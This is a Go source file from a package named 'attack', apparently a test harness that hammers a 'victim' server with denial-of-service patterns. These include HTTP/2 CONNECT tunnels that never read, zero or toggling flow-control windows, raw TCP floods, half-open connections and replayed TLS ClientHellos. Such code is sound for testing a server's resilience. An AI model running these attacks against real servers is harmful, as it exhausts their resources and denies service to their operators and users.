// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streamsPerPeer is how many streams a victim allows.
const streamsPerPeer = 200

func field(p *peer, name, value string) error {
	return p.enc.WriteField(hpack.HeaderField{Name: name, Value: value})
}

// neverRead asks for more than windows and buffers hold together, on every stream, and reads none of it.
func neverRead(p *peer) error {
	if p.id == 1 {
		for range streamsPerPeer {
			id, err := p.headers(":method", "CONNECT", ":authority", p.cfg.Download)
			if err != nil {
				return err
			}
			if err := p.fr.WriteData(id, false, []byte("GET /size/400000 HTTP/1.1\r\nHost: victim\r\n\r\n")); err != nil {
				return err
			}
		}
	}
	return errors.Join(p.w.Flush(), hold(p, 50*time.Millisecond))
}

// slowRead opens no window for the echo of what it sends, and sends whatever the victim lets it.
func slowRead(p *peer) error {
	if p.id == 1 {
		if err := p.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
			return err
		}
		for range streamsPerPeer {
			if _, err := p.connect(); err != nil {
				return err
			}
		}
	}
	sent, err := p.fill('x')
	err = errors.Join(err, p.w.Flush())
	if err != nil || sent > 0 {
		return err
	}
	return hold(p, 10*time.Millisecond)
}

// shrink has echoes under way, and takes their windows away and gives them back.
func shrink(p *peer) error {
	size := uint32(0)
	if p.id == 1 {
		for range streamsPerPeer {
			if _, err := p.connect(); err != nil {
				return err
			}
		}
	}
	if p.rounds++; p.rounds%2 == 0 {
		size = 1 << 20
	}
	err := p.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: size})
	_, filled := p.fill('x')
	return errors.Join(err, filled, p.w.Flush(), hold(p, 100*time.Millisecond))
}

// brief has tunnels end as soon as they are open: an echo takes a first byte of zero for a question, which this is not.
func brief(p *peer) error {
	if p.id == 1 {
		for range streamsPerPeer {
			if _, err := p.connect(); err != nil {
				return err
			}
		}
	}
	sent, err := p.fill(0)
	err = errors.Join(err, p.w.Flush())
	if err != nil || sent > 0 {
		return err
	}
	return hold(p, 10*time.Millisecond)
}

// fill sends what the victim's windows allow, of one byte.
func (p *peer) fill(b byte) (sent int, err error) {
	chunk := bytes.Repeat([]byte{b}, 16<<10)
	for id := uint32(1); id < p.id; id += 2 {
		n := p.windows.take(id, len(chunk))
		if n == 0 {
			continue
		}
		sent += n
		if err := p.fr.WriteData(id, false, chunk[:n]); err != nil {
			return sent, err
		}
	}
	return sent, nil
}

// windows is what the victim lets us send.
type windows struct {
	mu      sync.Mutex
	conn    int
	initial int
	streams map[uint32]int // beyond the initial window
}

func (w *windows) take(id uint32, limit int) int {
	w.mu.Lock()
	defer w.mu.Unlock()
	n := max(0, min(limit, w.conn, w.initial+w.streams[id]))
	w.conn -= n
	w.streams[id] -= n
	return n
}

func (w *windows) give(f http2.Frame) {
	w.mu.Lock()
	defer w.mu.Unlock()
	switch f := f.(type) {
	case *http2.WindowUpdateFrame:
		if f.StreamID == 0 {
			w.conn += int(f.Increment)
		} else {
			w.streams[f.StreamID] += int(f.Increment)
		}
	case *http2.SettingsFrame:
		if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
			w.initial = int(v)
		}
	}
}

// hold waits.
func hold(p *peer, d time.Duration) error {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
	case <-p.over:
		return errOver
	}
	return nil
}

func plain(_ context.Context, c *net.TCPConn, _ *Config) error {
	b := make([]byte, 16<<10)
	for i := range b {
		b[i] = byte(i * 7)
	}
	for {
		if _, err := c.Write(b); err != nil {
			return err
		}
	}
}

func http1(_ context.Context, c *net.TCPConn, _ *Config) error {
	if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: victim\r\n\r\n"); err != nil {
		return err
	}
	_, err := io.Copy(io.Discard, c)
	return err
}

// halfOpen says nothing until the victim closes.
func halfOpen(_ context.Context, c *net.TCPConn, _ *Config) error {
	_, err := io.Copy(io.Discard, c)
	return err
}

// hello lets the victim work on its part of the handshake, and says nothing more. The attacker does no work of its own: it says the
// same each time.
func hello(_ context.Context, c *net.TCPConn, _ *Config) error {
	if _, err := c.Write(clientHello()); err != nil {
		return err
	}
	_, err := io.Copy(io.Discard, c)
	return err
}

// clientHello is the first flight of a client that does not care who answers.
var clientHello = sync.OnceValue(func() []byte {
	r := &recorder{}
	t := tls.Client(r, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13, NextProtos: []string{"h2"}}) //nolint:gosec // it never comes to trust

	_ = t.Handshake() // which the silence ends
	return r.sent
})

// recorder is a connection of which nothing comes.
type recorder struct {
	net.Conn
	sent []byte
}

func (r *recorder) Write(b []byte) (int, error) {
	r.sent = append(r.sent, b...)
	return len(b), nil
}

func (*recorder) Read([]byte) (int, error) { return 0, io.EOF }
func (*recorder) Close() error             { return nil }

func noCertificate(ctx context.Context, c *net.TCPConn, _ *Config) error {
	t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13, NextProtos: []string{"h2"}}) //nolint:gosec // the victim is to refuse, not the attacker
	if err := t.HandshakeContext(ctx); err != nil {
		return err
	}
	_, err := io.Copy(io.Discard, t)
	return err
}
